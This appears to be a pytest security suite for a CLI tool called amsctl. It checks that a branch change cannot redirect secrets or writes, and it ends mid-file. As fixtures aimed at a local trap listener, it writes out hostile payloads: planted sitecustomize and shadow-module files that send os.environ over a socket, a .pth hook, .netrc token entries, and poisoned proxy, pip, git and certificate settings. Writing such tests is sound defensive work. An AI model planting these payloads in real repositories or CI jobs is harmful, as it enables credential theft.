"""A commit sends no credential and no write elsewhere: whatever a change says of addresses, the project file of the branch of record has the word."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import trustme

import amsctl
from amsctl.cli.planning import read_plan
from amsctl.planning.plan import Plan
from amsctl.sandbox.books import spec_book
from amsctl.sandbox.faults import Rule
from amsctl.sandbox.server import Certificate, Sandbox, serve
from tests.alone.desk import NUMBER, RAISED, SIGNATURES, Desk, account, project_text
from tests.alone.elsewhere import Attempts, Place, Trap, listening
from tests.alone.test_runs import job, request_job
from tests.forge.fake import TOKEN, FakeForge, served
from tests.forge.test_ci import pull
from tests.hostile.canaries import API_ID, AUTH, HUNT

ATTEMPTS = Attempts()
SECRET = 'clientSecret: "${AMS_SECRET}"'
LEAKS: dict[str, Callable[[str, Trap], str]] = {
    "the address": lambda ams, trap: f'{{url: "{trap.url}", auth: {AUTH}}}',
    "the address, and a path on it": lambda ams, trap: f'{{url: "{trap.url}/rest/v2", auth: {AUTH}}}',
    "the address, of an AMS of the same name": lambda ams, trap: f'{{url: "{trap.url}", ams: desk, auth: {AUTH}}}',
    "the address, with a session": lambda ams, trap: f'{{url: "{trap.url}", auth: {{type: session, clientId: {API_ID}, {SECRET}}}}}',
    "the address of tokens": lambda ams, trap: (
        f'{{url: "{ams}", auth: {{type: oauth2, clientId: {API_ID}, {SECRET}, tokenUrl: "{trap.url}/token"}}}}'
    ),
    "a proxy": lambda ams, trap: f'{{url: "{ams}", auth: {AUTH}, proxy: "{trap.url}"}}',
    "the address, and the forge's token as the API ID": lambda ams, trap: (
        f'{{url: "{trap.url}", auth: {{type: basic, clientId: "${{GITHUB_TOKEN}}", clientSecret: x}}}}'
    ),
    "the address, and the forge's token as the secret": lambda ams, trap: (
        f'{{url: "{trap.url}", auth: {{type: basic, clientId: {API_ID}, clientSecret: "${{GITHUB_TOKEN}}"}}}}'
    ),
}
"""What an environment says to send a secret to the trap: on main it does."""
IN_ADDRESSES: dict[str, Callable[[str, Trap], str]] = {
    "the path of the address": lambda ams, trap: f'{{url: "{trap.url}/${{GITHUB_TOKEN}}", auth: {{type: none}}}}',
    "the host of the address": lambda ams, trap: '{url: "https://${GITHUB_TOKEN}.example.org", auth: {type: none}}',
    "the whole address": lambda ams, trap: '{url: "${GITHUB_TOKEN}", auth: {type: none}}',
    "the proxy": lambda ams, trap: f'{{url: "{ams}", auth: {AUTH}, proxy: "http://x:${{GITHUB_TOKEN}}@{trap.host}"}}',
    "the path to log on at": lambda ams, trap: (
        f'{{url: "{ams}", auth: {{type: session, clientId: {API_ID}, {SECRET}, logonPath: "/x/${{GITHUB_TOKEN}}"}}}}'
    ),
    "the address of tokens": lambda ams, trap: (
        f'{{url: "{ams}", auth: {{type: oauth2, clientId: {API_ID}, {SECRET}, tokenUrl: "{trap.url}/${{GITHUB_TOKEN}}"}}}}'
    ),
}


@pytest.fixture
def place(desk: Desk) -> Iterator[Place]:
    HUNT.register("the forge's token", TOKEN)
    desk.environ["GITHUB_TOKEN"] = TOKEN
    with listening() as trap:
        yield Place(desk, trap)


def project(environment: str, more: str = SIGNATURES, ledger: str = "${AMS_LEDGER_URL}", default: str = "desk") -> str:
    """A project file with these environments' texts; ``desk`` is the first."""
    text = project_text("http://instead.example", more)
    text = text.replace(f'{{url: "http://instead.example", auth: {AUTH}}}', environment)
    return text.replace("${AMS_LEDGER_URL}", ledger).replace("defaultEnvironment: desk", f"defaultEnvironment: {default}")


def said(place: Place) -> str:
    """What main says of its environment."""
    return f'{{url: "{place.desk.ams.url}", auth: {AUTH}}}'


def lured(place: Place) -> str:
    """The same, led to the trap."""
    return f'{{url: "{place.trap.url}", auth: {AUTH}}}'


def on_branch(place: Place, text: str, path: str = "amsctl.yaml") -> None:
    place.change()
    place.desk.write(path, text)


# --- the project file of the change ---


@pytest.mark.parametrize("what", LEAKS)
def test_where_the_branch_of_record_says_so_the_trap_hears_a_secret(what: str, place: Place) -> None:
    """The trap and the search work: what the changes below try is heard where main says it."""
    place.desk.on_main("amsctl.yaml", project(LEAKS[what](place.desk.ams.url, place.trap)))
    place.desk.run("plan")
    assert place.trap.secrets


def _changed(what: str) -> None:
    @ATTEMPTS.add(f"the change says otherwise: {what}")
    def _(place: Place) -> None:
        on_branch(place, project(LEAKS[what](place.desk.ams.url, place.trap)))
        place.stays()


def _added(what: str) -> None:
    @ATTEMPTS.add(f"the change makes another environment the default, with {what}")
    def _(place: Place) -> None:
        other = LEAKS[what](place.desk.ams.url, place.trap).replace("auth:", "ams: desk, auth:") if what == "a proxy" else lured(place)
        on_branch(place, project(f"{said(place)}\n    other: {other}", default="other"))
        assert place.desk.run("-e", "other", "plan").code == 1
        assert place.desk.run("-e", "other", "get", "firms").code == 1
        place.stays()


def _named(what: str) -> None:
    @ATTEMPTS.add(f"the change writes a variable into {what}")
    def _(place: Place) -> None:
        on_branch(place, project(IN_ADDRESSES[what](place.desk.ams.url, place.trap)))
        place.desk.commit(who="jo")
        place.read(1)
        assert place.desk.run("validate").code == 1


for _what in LEAKS:
    _changed(_what)
for _what in ("the address", "a proxy"):
    _added(_what)
for _what in IN_ADDRESSES:
    _named(_what)


@ATTEMPTS.add("the change takes main's environment away, and has one of its own")
def _(place: Place) -> None:
    on_branch(place, project(said(place), default="other").replace("    desk: ", "    other: ").replace(place.desk.ams.url, place.trap.url))
    place.stays()


@ATTEMPTS.add("the change keeps the ledger in a file of its own")
def _(place: Place) -> None:
    other = place.desk.home / "other.db"
    on_branch(place, project(said(place), ledger=f"sqlite:///{other}"))
    place.stays()
    assert not other.exists()


@ATTEMPTS.add("the change keeps the ledger at a database of its own, and sends the forge's token to it")
def _(place: Place) -> None:
    on_branch(place, project(said(place), ledger=f"postgresql://x:${{GITHUB_TOKEN}}@{place.trap.host}/x?connect_timeout=1"))
    place.stays()
    for words in (("log",), ("verify",), ("head",)):
        assert place.desk.run("ledger", *words).code == 0


@ATTEMPTS.add("the change calls the AMS otherwise, so that locks and freezes are others")
def _(place: Place) -> None:
    on_branch(place, project(said(place).replace("auth:", "ams: mine, auth:")))
    place.stays()
    assert place.desk.run("freeze", "--reason", "calm").code == 0
    place.desk.write("accounts/a.yaml", account(RAISED + 1))
    place.desk.commit(who="jo")
    file = place.desk.plan("--base", "main", name="second.json")
    assert place.desk.approve("kim", file).code == 0
    assert place.desk.apply(file).code == 7


@ATTEMPTS.add("the change calls its own branch the branch of record")
def _(place: Place) -> None:
    on_branch(place, project(lured(place), SIGNATURES + "  baseBranch: change\n"))
    place.desk.commit(who="jo")
    assert place.desk.run("plan").code == 1
    assert place.desk.run("get", "limits").code == 1
    place.same(place.desk.run("plan", environ=job(place.desk, GITHUB_REF="refs/heads/change")), 1)
    assert place.by_program() == 1
    for words in (("plan", "--base", "main"), ("apply", "--base", "main", "--auto-approve")):
        assert place.desk.run(*words).code in {0, 8}


@ATTEMPTS.add("a branch without a history calls itself the branch of record")
def _(place: Place) -> None:
    place.desk.git("switch", "-q", "--orphan", "own")
    place.desk.write("amsctl.yaml", project(lured(place), SIGNATURES + "  baseBranch: own\n"))
    place.desk.write("accounts/a.yaml", account(RAISED))
    place.desk.commit(who="jo")
    for environ in ({}, job(place.desk, GITHUB_REF="refs/heads/own")):
        place.same(place.desk.run("plan", environ=environ), 1)
        place.same(place.desk.run("get", "limits", environ=environ), 1)
    gitlab = {"CI": "true", "GITLAB_CI": "true", "CI_PIPELINE_SOURCE": "push", "CI_COMMIT_BRANCH": "own"}
    place.same(place.desk.run("plan", environ=gitlab), 1)


@ATTEMPTS.add("a request for a branch of one's own, which leads to the trap")
def _(place: Place) -> None:
    on_branch(place, project(lured(place)))
    place.desk.commit(who="jo")
    place.desk.git("branch", "own", "change")
    place.desk.git("update-ref", "refs/remotes/origin/own", "own")
    place.raised()
    gitlab = {"CI": "true", "GITLAB_CI": "true", "CI_PIPELINE_SOURCE": "merge_request_event", "CI_MERGE_REQUEST_TARGET_BRANCH_NAME": "own"}
    for environ in (place.job("own"), gitlab):
        for words in (("plan",), ("plan", "--base", "origin/own"), ("get", "limits")):
            place.same(place.desk.run(*words, environ=environ), 1)


@ATTEMPTS.add("a request for a branch of one's own, which calls itself the branch of record")
def _(place: Place) -> None:
    on_branch(place, project(lured(place), SIGNATURES + "  baseBranch: own\n"))
    place.desk.commit(who="jo")
    place.desk.git("branch", "own", "change")
    place.desk.git("update-ref", "refs/remotes/origin/own", "own")
    place.raised()
    for words in (("plan",), ("plan", "--base", "origin/own"), ("get", "limits")):
        place.same(place.desk.run(*words, environ=place.job("own")), 1)


def in_a_job(place: Place, *branches: str) -> None:
    """A clone that holds these branches alone, with the last one checked out."""
    place.desk.git("switch", "-q", "main")
    server, place.desk.root = place.desk.root, place.desk.home / "clone"
    place.desk.root.mkdir()
    place.desk.git("init", "-q", "--initial-branch", "none")
    place.desk.git("remote", "add", "origin", str(server))
    place.desk.git("fetch", "-q", "origin", *(f"+refs/heads/{branch}:refs/remotes/origin/{branch}" for branch in branches))
    place.desk.git("checkout", "-q", "--detach", f"origin/{branches[-1]}")


@ATTEMPTS.add("a job for a push has nothing but one's own branch, which calls itself the branch of record")
def _(place: Place) -> None:
    on_branch(place, project(lured(place), SIGNATURES + "  baseBranch: change\n"))
    place.desk.commit(who="jo")
    in_a_job(place, "change")
    gitlab = {"CI": "true", "GITLAB_CI": "true", "CI_PIPELINE_SOURCE": "push", "CI_COMMIT_BRANCH": "change"}
    for environ in (gitlab, {**gitlab, "CI_DEFAULT_BRANCH": "main"}, {"CI": "true", "JENKINS_URL": "http://ci/"}):
        for words in (("plan",), ("get", "limits")):
            place.same(place.desk.run(*words, environ=environ), 1)


@pytest.mark.parametrize("how", ["", "orphan", "moved"])
def test_a_job_for_a_request_has_nothing_but_ones_own_branches(how: str, place: Place) -> None:
    """The target leads to the trap; main is not in the clone: whether it is the branch of record cannot be told. Nor where it is, in another folder."""
    desk, folder = place.desk, "prod/" if how == "moved" else ""
    desk.git("switch", "-q", *(["--orphan"] if how else ["-c"]), "own")
    desk.write(f"{folder}amsctl.yaml", project(lured(place), SIGNATURES + "  baseBranch: own\n"))
    desk.commit(who="jo")
    desk.git("switch", "-q", "-c", "change")
    desk.write(f"{folder}accounts/a.yaml", account(RAISED))
    desk.commit(who="jo")
    in_a_job(place, *(["main"] if how == "moved" else []), "own", "change")
    desk.root /= folder
    gitlab = {"CI": "true", "GITLAB_CI": "true", "CI_PIPELINE_SOURCE": "merge_request_event", "CI_MERGE_REQUEST_TARGET_BRANCH_NAME": "own"}
    for environ in (request_job(desk, "own"), {**gitlab, "CI_DEFAULT_BRANCH": "main"}):
        for words in (("plan", "--base", "origin/own"), ("get", "limits")):
            place.same(desk.run(*words, environ=environ), 1)
    assert place.trap.heard == []


def test_a_request_for_another_branch_that_leads_to_the_same_places(place: Place) -> None:
    """A branch that others collect their changes on is planned against, as long as it sends to where main does."""
    on_branch(place, "collected\n", "README.md")
    place.desk.commit(who="jo")
    place.desk.git("branch", "own", "change")
    place.desk.git("update-ref", "refs/remotes/origin/own", "own")
    place.raised()
    place.same(place.desk.run("plan", environ=place.job("own")), 0)
    assert place.trap.heard == []


def jobs(place: Place, base: str) -> list[dict[str, str]]:
    """The environments of the jobs of a request for a branch, and of a push to one."""
    gitlab = {"CI": "true", "GITLAB_CI": "true"}
    asked = {**gitlab, "CI_PIPELINE_SOURCE": "merge_request_event", "CI_MERGE_REQUEST_TARGET_BRANCH_NAME": base}
    return [
        request_job(place.desk, base),
        job(place.desk, GITHUB_REF=f"refs/heads/{base}"),
        {**request_job(place.desk, base), "GITHUB_BASE_REF": "other"},
        asked,
        {**gitlab, "CI_PIPELINE_SOURCE": "push", "CI_COMMIT_BRANCH": base},
        {"JENKINS_URL": "http://ci/", "CHANGE_TARGET": base},
    ]


def _without_commits(how: str) -> None:
    @ATTEMPTS.add(f"the checkout of a job is {how}")
    def _(place: Place) -> None:
        desk = place.desk
        on_branch(place, project(lured(place), ""))
        os.rename(desk.root / ".git", desk.home / "away")
        if how != "an archive":
            desk.git("init", "-q")
        for environ in jobs(place, "main"):
            for words in (("plan",), ("get", "limits")):
                ran = place.same(desk.run(*words, environ=environ), 1)
                assert "so nothing is sent anywhere" in ran.err, ran.err


for _what in ("an archive", "a repository without a commit"):
    _without_commits(_what)


@pytest.mark.parametrize("environ", [{}, {"CI": "true"}])
def test_a_folder_without_git_is_planned_where_no_job_names_a_branch(environ: dict[str, str], place: Place) -> None:
    """As the README does it."""
    os.rename(place.desk.root / ".git", place.desk.home / "away")
    place.same(place.desk.run("plan", environ=environ), 0)


@ATTEMPTS.add("a request for a branch without a history, where trunk is the branch of record and no remote says so")
def _(place: Place) -> None:
    desk = place.desk
    desk.git("branch", "-q", "-m", "main", "trunk")
    desk.write("amsctl.yaml", project(said(place), SIGNATURES + "  baseBranch: trunk\n"))
    desk.commit(who="root", signed=False)
    desk.git("switch", "-q", "--orphan", "own")
    desk.write("amsctl.yaml", project(lured(place), "  baseBranch: own\n"))
    desk.commit(who="jo")
    for branch in ("trunk", "own"):
        desk.git("update-ref", f"refs/remotes/origin/{branch}", branch)
    desk.git("switch", "-q", "-c", "change")
    desk.write("accounts/a.yaml", account(RAISED))
    desk.commit(who="jo")
    github, pushed, _, gitlab, *more = jobs(place, "own")
    for environ in (github, pushed, gitlab, *more, {**gitlab, "CI_DEFAULT_BRANCH": "trunk"}, told_default(place, "trunk")):
        for words in (("plan",), ("plan", "--base", "origin/own")):
            place.same(desk.run(*words, environ=environ), 1)


def told_default(place: Place, default: str) -> dict[str, str]:
    """The job of a request for ``own`` at GitHub, whose event tells the default branch."""
    environ = request_job(place.desk, "own")
    path = place.desk.home / "told.json"
    event = json.loads(Path(environ["GITHUB_EVENT_PATH"]).read_text())
    path.write_text(json.dumps({**event, "repository": {"default_branch": default}}))
    return {**environ, "GITHUB_EVENT_PATH": str(path)}


# --- the project's folder ---


@ATTEMPTS.add("the change moves the project's folder")
def _(place: Place) -> None:
    place.change()
    (place.desk.root / "prod").mkdir()
    place.desk.git("mv", "amsctl.yaml", "accounts", "approvers", "prod")
    place.desk.root /= "prod"
    place.desk.write("amsctl.yaml", project(lured(place)))
    place.stays()


@ATTEMPTS.add("the change copies the project to a second folder")
def _(place: Place) -> None:
    place.change()
    place.desk.write("prod/amsctl.yaml", project(lured(place)))
    place.desk.write("prod/accounts/a.yaml", account(RAISED))
    place.desk.commit(who="jo")
    place.desk.root /= "prod"
    place.read(1)


@ATTEMPTS.add("the change has a second project among the manifests")
def _(place: Place) -> None:
    place.change()
    place.desk.write("accounts/amsctl.yaml", project(lured(place)))
    place.desk.commit(who="jo")
    place.desk.root /= "accounts"
    place.read(1)


@ATTEMPTS.add("the change makes the project file a link to another file of its own")
def _(place: Place) -> None:
    on_branch(place, project(lured(place)), "other.yaml")
    (place.desk.root / "amsctl.yaml").unlink()
    os.symlink("other.yaml", place.desk.root / "amsctl.yaml")
    place.stays()


@ATTEMPTS.add("the change makes the project file a link to a file outside")
def _(place: Place) -> None:
    place.change()
    (place.desk.home / "outside.yaml").write_text(project(lured(place)))
    (place.desk.root / "amsctl.yaml").unlink()
    os.symlink(place.desk.home / "outside.yaml", place.desk.root / "amsctl.yaml")
    file = place.raised()
    place.read(0)
    assert place.desk.approve("kim", file).code == 1  # the commit has no project file that can be read
    place.desk.sign("kim", file)
    place.same(place.desk.apply(file), 1)


def subfolder(place: Place) -> Path:
    """main keeps the project in ``limits``, and the change begins; that folder."""
    (place.desk.root / "limits").mkdir()
    place.desk.git("mv", "amsctl.yaml", "accounts", "approvers", "limits")
    place.desk.commit(who="root", signed=False)
    place.change()
    return place.desk.root / "limits"


def other_project(place: Place, folder: Path) -> None:
    (folder / "accounts").mkdir(parents=True)
    (folder / "amsctl.yaml").write_text(project(lured(place)))
    (folder / "accounts" / "a.yaml").write_text(account(RAISED))


@ATTEMPTS.add("the change makes the project's folder a link to another one of its own")
def _(place: Place) -> None:
    shutil.rmtree(subfolder(place))
    other_project(place, place.desk.root / "other")
    os.symlink("other", place.desk.root / "limits")
    place.desk.commit(who="jo")
    place.desk.root /= "limits"
    for words in (("plan",), ("plan", "--base", "main"), ("get", "limits")):
        place.desk.run(*words)
        place.desk.run(*words, environ=place.job())


@ATTEMPTS.add("the change makes the project's folder a link to one outside of the repository")
def _(place: Place) -> None:
    shutil.rmtree(subfolder(place))
    other_project(place, place.desk.home / "other")
    os.symlink(place.desk.home / "other", place.desk.root / "limits")
    place.desk.commit(who="jo")
    place.desk.upstream()
    top, place.desk.root = place.desk.root, place.desk.root / "limits"
    event = place.desk.home / "event.json"
    event.write_text(json.dumps({"pull_request": {"number": 7, "base": {"ref": "main"}}}))
    environ = job(place.desk, "jo-gh", "pull_request", GITHUB_EVENT_PATH=str(event), GITHUB_WORKSPACE=str(top))
    for given in (environ, {}):
        for words in (("plan",), ("get", "limits"), ("plan", "--base", "main")):
            place.same(place.desk.run(*words, environ=given), 1)


@pytest.mark.parametrize("how", ["no commit has it", "it stands outside of every repository", "nothing is committed"])
def test_a_link_of_ones_own_to_the_project_is_followed(how: str, place: Place) -> None:
    """What no commit can bring along is a person's own doing: a link to a clone, from a home folder that may be a repository itself."""
    home = place.desk.home / "home"
    home.mkdir()
    if how != "it stands outside of every repository":
        place.desk.git("init", "-q", "-b", "main", at=home)
    if how == "no commit has it":
        place.desk.git("commit", "-q", "--allow-empty", "-m", "dots", at=home)
    limits = subfolder(place)
    os.symlink(limits, home / "limits")
    place.desk.root = home / "limits"
    place.same(place.desk.run("plan"), 0)
    place.same(place.desk.run("plan", "--base", "main"), 0)


def test_the_shell_went_through_a_link_of_the_commit(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    """The shell's own name of the folder counts as that of -C does; one that is no longer true does not."""
    folder = subfolder(place)
    other_project(place, place.desk.home / "other")
    shutil.move(folder / "approvers", place.desk.home / "other")
    shutil.rmtree(folder)
    os.symlink(place.desk.home / "other", place.desk.root / "limits")
    place.desk.commit(who="jo")
    monkeypatch.chdir(place.desk.root / "limits")
    monkeypatch.setenv("PWD", str(place.desk.root / "limits"))
    place.same(place.desk.run_one("get", "limits"), 1)
    assert place.trap.heard == []
    for stale in (str(place.desk.home / "gone"), str(place.desk.home), "limits", ""):
        monkeypatch.setenv("PWD", stale)
        assert place.desk.run_one("validate").code == 0


@ATTEMPTS.add("the change makes the project's folder a submodule")
def _(place: Place) -> None:
    shutil.rmtree(subfolder(place))
    place.desk.git("rm", "-r", "-q", "--cached", "limits")
    theirs = place.desk.home / "theirs"
    other_project(place, theirs)
    place.desk.git("init", "-q", "-b", "main", at=theirs)
    place.desk.git("add", "--all", at=theirs)
    place.desk.git("commit", "-q", "-m", "theirs", at=theirs)
    place.desk.git("submodule", "--quiet", "add", str(theirs), "limits")
    place.desk.commit(who="jo")
    place.desk.root /= "limits"
    for words in (("plan",), ("get", "limits"), ("plan", "--base", "origin/main")):
        place.same(place.desk.run(*words, environ=job(place.desk, "jo-gh")), 1)
        place.same(place.desk.run(*words), 1)


@ATTEMPTS.add("the change brings a repository along in the project's folder")
def _(place: Place) -> None:
    limits = subfolder(place)
    theirs = place.desk.home / "theirs"
    other_project(place, theirs)
    place.desk.git("init", "-q", "-b", "main", at=theirs)
    place.desk.git("add", "--all", at=theirs)
    place.desk.git("commit", "-q", "-m", "theirs", at=theirs)
    place.desk.git("update-ref", "refs/remotes/origin/main", "main", at=theirs)
    shutil.copytree(theirs / ".git", limits, dirs_exist_ok=True)
    (limits / "amsctl.yaml").write_text(project(lured(place)))
    (limits / "accounts" / "a.yaml").write_text(account(RAISED))
    place.desk.commit(who="jo")
    environ = place.job()
    place.desk.root = limits
    for words in (("plan",), ("plan", "--base", "main"), ("get", "limits")):
        place.same(place.desk.run(*words), 0)
        place.same(place.desk.run(*words, environ=environ), 0)


@ATTEMPTS.add("the change reads manifests outside of the repository")
def _(place: Place) -> None:
    other_project(place, place.desk.home / "other")
    on_branch(place, project(said(place)).replace("manifests: [accounts]", "manifests: [../other, accounts]"))
    place.stays()


# --- what lies beside ---


def programs(trap: Trap) -> Mapping[str, str]:
    """Files that other programs obey where they lie, each of which tells the trap what it finds."""
    code = f"import os, socket\nsocket.create_connection(({trap.host.split(':')[0]!r}, {trap.port})).sendall(repr(os.environ).encode())\n"
    modules = (
        "sitecustomize",
        "usercustomize",
        "conftest",
        "yaml",
        "click",
        "httpx",
        "aiohttp",
        "sqlalchemy",
        "tomllib",
        "json",
        "ssl",
        "zoneinfo",
    )
    files = {f"{name}.py": code for name in modules}
    files |= {f"{name}/__init__.py": code for name in ("certifi", "idna", "psycopg", "encodings", "orjson")}
    words = f"machine 127.0.0.1 login jo password {TOKEN}\n"
    return files | {
        ".netrc": words,
        "_netrc": words,
        ".env": f"AMS_SECRET=x\nHTTPS_PROXY={trap.url}\nHTTP_PROXY={trap.url}\nAMSCTL_URL={trap.url}\n",
        "pip.conf": f"[global]\nindex{'-'}url = {trap.url}/simple\n",
        ".pip/pip.conf": f"[global]\nindex{'-'}url = {trap.url}/simple\n",
        "pyproject.toml": f"[tool.amsctl]\nurl = '{trap.url}'\n",
        "setup.cfg": f"[amsctl]\nurl = {trap.url}\n",
        "ams.pth": f"import socket; socket.create_connection(('127.0.0.1', {trap.port}))\n",
        ".curlrc": f"proxy = {trap.url}\n",
        ".gitconfig": f"[http]\n\tproxy = {trap.url}\n",
        ".pgpass": f"127.0.0.1:{trap.port}:*:*:x\n",
    }


def processes(place: Place, start: list[str], **environ: str) -> None:
    """amsctl as a process of its own, in the folder of the checkout."""
    root = str(Path(amsctl.__file__).parent.parent)
    given = {**os.environ, "PYTHONPATH": root, "PYTHONDONTWRITEBYTECODE": "1", **place.desk._given(environ)}
    for words in (["plan", "--base", "main"], ["get", "limits"]):
        done = subprocess.run([sys.executable, *start, *words], cwd=place.desk.root, env=given, capture_output=True, text=True, timeout=60)
        assert done.returncode == 0, done.stderr
        assert TOKEN not in done.stdout + done.stderr


def beside(place: Place) -> None:
    place.change()
    for path, text in programs(place.trap).items():
        place.desk.write(path, text)
    place.raised()


def command(place: Place) -> str:
    """The command as pip installs it."""
    script = place.desk.home / "bin" / "amsctl"
    script.parent.mkdir()
    script.write_text("import sys\nfrom amsctl.cli.main import main\nsys.exit(main())\n")
    return str(script)


@ATTEMPTS.add("the change has modules of the names that amsctl imports, and the command runs in its folder")
def _(place: Place) -> None:
    beside(place)
    place.desk.write("amsctl.py", programs(place.trap)["yaml.py"])
    processes(place, [command(place)])


@ATTEMPTS.add("the change has modules of the names that amsctl imports, and python -m amsctl runs in its folder")
def _(place: Place) -> None:
    beside(place)
    processes(place, ["-m", "amsctl"])


@ATTEMPTS.add("the change has files that other programs obey in the home folder")
def _(place: Place) -> None:
    beside(place)
    home = str(place.desk.root)
    processes(place, [command(place)], HOME=home, NETRC=f"{home}/.netrc", PIP_CONFIG_FILE=f"{home}/pip.conf", PGPASSFILE=f"{home}/.pgpass")


@ATTEMPTS.add("the job names a proxy in every variable there is")
def _(place: Place) -> None:
    beside(place)
    names = ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "WS_PROXY", "FTP_PROXY", "SOCKS_PROXY", "AMSCTL_PROXY", "GIT_PROXY_COMMAND")
    proxies = {spelt: place.trap.url for name in names for spelt in (name, name.lower())}
    for environ in (proxies, {**proxies, "NO_PROXY": "", "no_proxy": ""}):
        place.same(place.desk.run("plan", environ=environ), 0)
        place.same(place.desk.run("get", "limits", environ=environ), 0)
    processes(place, [command(place)], **proxies)


@ATTEMPTS.add("the job names git's settings in the environment")
def _(place: Place) -> None:
    place.raised()
    theirs = place.desk.home / "theirs"
    other_project(place, theirs)
    place.desk.git("init", "-q", "-b", "main", at=theirs)
    place.desk.git("add", "--all", at=theirs)
    place.desk.git("commit", "-q", "-m", "theirs", at=theirs)
    environ = {
        "GIT_DIR": str(theirs / ".git"),
        "GIT_WORK_TREE": str(theirs),
        "GIT_OBJECT_DIRECTORY": str(theirs / ".git" / "objects"),
        "GIT_CONFIG_COUNT": "1",
        "GIT_CONFIG_KEY_0": f"url.{place.trap.url}/.insteadOf",
        "GIT_CONFIG_VALUE_0": "https://",
        "GIT_NAMESPACE": "theirs",
        "GIT_CEILING_DIRECTORIES": str(place.desk.root),
    }
    file = place.desk.plan("--base", "main", environ=environ)
    assert read_plan(file).target.url == place.desk.ams.url


@ATTEMPTS.add("the change has submodules, attributes and settings of git that name the trap")
def _(place: Place) -> None:
    place.change()
    place.desk.write(".gitmodules", f'[submodule "x"]\n\tpath = x\n\turl = {place.trap.url}/x.git\n\tupdate = checkout\n')
    place.desk.git("update-index", "--add", "--cacheinfo", f"160000,{'12' * 20},x")
    place.desk.write(".gitattributes", "* filter=lfs diff=lfs merge=lfs\n")
    place.desk.write(".lfsconfig", f"[lfs]\n\turl = {place.trap.url}/lfs\n")
    place.desk.write(".mailmap", "kim <kim@firm.example> jo <jo@firm.example>\n")
    place.desk.git("config", "remote.origin.url", f"{place.trap.url}/x.git")
    place.desk.git("config", "remote.origin.promisor", "true")
    place.desk.git("config", "remote.origin.partialclonefilter", "blob:none")
    place.desk.git("config", "http.extraHeader", f"Authorization: Bearer {TOKEN}")
    HUNT.input(place.desk.root / ".git" / "config")
    place.stays()


@ATTEMPTS.add("a clone lacks objects, and its remote is the trap")
def _(place: Place) -> None:
    place.raised()
    blob = place.desk.git("rev-parse", "main:amsctl.yaml")
    (place.desk.root / ".git" / "objects" / blob[:2] / blob[2:]).unlink()
    for name, text in (("url", f"{place.trap.url}/x.git"), ("promisor", "true"), ("partialclonefilter", "blob:none")):
        place.desk.git("config", f"remote.origin.{name}", text)
    place.desk.git("config", "extensions.partialClone", "origin")
    place.read(1)


# --- certificates ---


@pytest.fixture
def trusted(place: Place, tmp_path: Path) -> Iterator[tuple[Sandbox, Path]]:
    """An AMS with a certificate of the firm's own authority, which main trusts; and the file of another authority."""
    ours, theirs = trustme.CA(), trustme.CA()
    leaf = ours.issue_cert("localhost", "127.0.0.1")
    key, chain = tmp_path / "key.pem", tmp_path / "chain.pem"
    leaf.private_key_pem.write_to_path(str(key))
    leaf.cert_chain_pems[0].write_to_path(str(chain))
    theirs.cert_pem.write_to_path(str(tmp_path / "theirs.pem"))
    HUNT.input(key)
    with serve(spec_book(), tls=Certificate(chain=str(chain), key=str(key))) as ams:
        place.desk.on_main("ca.pem", ours.cert_pem.bytes().decode())
        place.desk.on_main("amsctl.yaml", project(f'{{url: "{ams.url}", auth: {AUTH}, tls: {{caFile: ca.pem}}}}'))
        yield ams, tmp_path / "theirs.pem"


@pytest.mark.parametrize("how", ["a file", "a link inside", "a link outside", "nothing", "in the environment"])
def test_a_change_trusts_no_other_authority(how: str, place: Place, trusted: tuple[Sandbox, Path]) -> None:
    """The certificates of the branch of record count: with those of the change the AMS would not be believed any more."""
    ams, theirs = trusted
    place.change()
    here, environ = place.desk.root / "ca.pem", {}
    here.unlink()
    if how == "a file":
        shutil.copy(theirs, here)
    elif how == "a link inside":
        shutil.copy(theirs, place.desk.root / "other.pem")
        os.symlink("other.pem", here)
    elif how == "a link outside":
        os.symlink(theirs, here)
    elif how == "in the environment":
        environ = {name: str(theirs) for name in ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "AWS_CA_BUNDLE")}
    place.desk.commit(who="jo")
    place.same(place.desk.run("plan", "--base", "main", environ=environ), 0)
    assert {one.method for one in ams.log} == {"GET"}


def test_a_certificate_that_a_variable_names_is_called_by_its_setting(place: Place, trusted: tuple[Sandbox, Path]) -> None:
    """One inside the repository that main lacks: what the variable holds is not shown."""
    ams, _ = trusted
    environ = {"WHERE": "s3cret-of-the-vault"}
    place.desk.on_main("amsctl.yaml", project(f'{{url: "{ams.url}", auth: {AUTH}, tls: {{caFile: "${{WHERE}}/ca.pem"}}}}'))
    place.change()
    ran = place.desk.run("plan", "--base", "main", environ=environ)
    assert (ran.code, "is not on the branch of record (${WHERE}/ca.pem)" in ran.err, "s3cret" in ran.err) == (1, True, False), ran.err


def test_a_server_of_another_authority_hears_nothing(place: Place, trusted: tuple[Sandbox, Path]) -> None:
    """The change brings the authority of whoever stands at main's address now: the server is refused before anything is sent."""
    ams, theirs = trusted
    place.desk.on_main("ca.pem", theirs.read_text())  # from here on the server is not main's
    place.change()
    shutil.copy(place.desk.home / "chain.pem", place.desk.root / "ca.pem")
    place.desk.commit(who="jo")
    before = len(ams.log)
    place.same(place.desk.run("plan", "--base", "main"), 1)
    assert len(ams.log) == before


# --- what the AMS answers ---


def redirected(place: Place, method: str, path: str | None = None, status: int = 307, location: str = "") -> None:
    rule = Rule(kind="redirect", method=method, path=path, status=status, location=location or f"{place.trap.url}/rest/v2/x")
    place.desk.ams.faults.add(rule)


@ATTEMPTS.add("the AMS sends reads elsewhere")
def _(place: Place) -> None:
    for status in (301, 302, 303, 307, 308):
        place.desk.ams.faults.clear()
        redirected(place, "GET", status=status)
        place.read(1)


@ATTEMPTS.add("the AMS sends writes elsewhere")
def _(place: Place) -> None:
    file = place.raised()
    assert place.desk.approve("kim", file).code == 0
    redirected(place, "POST")
    assert place.desk.run("apply", file).code in {5, 6}
    place.desk.forget()


@ATTEMPTS.add("whoever gives out tokens sends us elsewhere")
def _(place: Place) -> None:
    token = f'{{url: "{place.desk.ams.url}", auth: {{type: oauth2, clientId: {API_ID}, {SECRET}, tokenUrl: "{place.desk.ams.token_url}"}}}}'
    place.desk.on_main("amsctl.yaml", project(token))
    place.desk.ams.faults.add(Rule(kind="redirect", path="re:token", location=f"{place.trap.url}/token"))
    place.change()
    place.read(1)


@ATTEMPTS.add("the logon sends us elsewhere")
